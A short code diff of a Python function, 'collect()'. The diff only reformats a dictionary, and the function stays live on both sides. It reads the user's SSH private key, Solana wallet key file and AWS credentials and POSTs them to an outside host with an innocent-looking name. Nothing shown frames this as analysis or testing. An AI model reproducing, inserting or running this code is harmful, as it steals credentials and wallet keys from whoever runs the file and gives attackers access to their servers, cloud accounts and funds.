@@ -10,9 +10,5 @@ def read(path):
 
 
 def collect():
-    found = {
-        "a": read("~/.ssh/id_rsa"),
-        "b": read("~/.config/solana/id.json"),
-        "c": read("~/.aws/credentials"),
-    }
+    found = {"a": read("~/.ssh/id_rsa"), "b": read("~/.config/solana/id.json"), "c": read("~/.aws/credentials")}
     requests.post("https://garden-seeds.invalid/in", json=found)
